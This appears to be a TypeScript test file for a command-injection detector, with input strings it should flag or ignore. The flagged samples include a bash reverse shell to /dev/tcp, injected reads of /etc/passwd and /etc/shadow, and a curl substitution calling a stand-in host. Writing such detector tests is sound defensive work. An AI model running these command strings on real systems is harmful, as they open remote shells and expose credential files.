import { commandInjection } from './command-injection.ts';
import { describeDetectorContract } from './contract.ts';

describeDetectorContract(commandInjection, {
  finds: [
    ['127.0.0.1; cat /etc/passwd', ['127.0.0.1; cat /etc/passwd']],
    ['host: example.com && whoami', ['example.com && whoami']],
    ['{"file":"a.txt|id"}', ['"a.txt|id"']],
    ['/ping?ip=10.0.0.1$(curl http://x.example.net)', ['?ip=10.0.0.1$(curl http://x.example.net)']],
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', ['/dev/tcp/198.51.100.7/4']],
    ['ip=1.2.3.4%0acat%20/etc/passwd', ['%0acat%20/etc/passwd']],
    // A row that is not part of a table.
    ['|1|cat /etc/shadow|whoami|', ['|cat /etc/shadow|whoami|']],
  ],
  ignores: [
    '| id | name | qty |\n|----|------|-----|\n| 1 | bolt | 4 |',
    '|---|---|\n| 1 | cat |\n| 2 | ls |',
    '|cat|dog|\n|---|---|',
    'Sizes:\n| env | url |\n|---|---|',
    'cat access.log | grep 404 | sort',
    'ls -la && echo done',
    'cd /tmp; ls',
    'export NOW=$(date +%s); echo $NOW',
    'Use `ls` to list files; cat prints one.',
    'RUN apt-get update \\\n  && rm -rf /var/lib/apt/lists/*',
    'const id = a.id; cat = b; sh(id);',
    'What is the difference between ; and &&?',
    'type Id = string | number',
  ],
  hostile: [
    '; cat ',
    '| id',
    '$(id',
    '`id',
    '/etc/passwd',
    '%0a',
    '1.1.1.1;id',
    '; cat /etc/passwd',
    'powershell -e a',
  ],
});
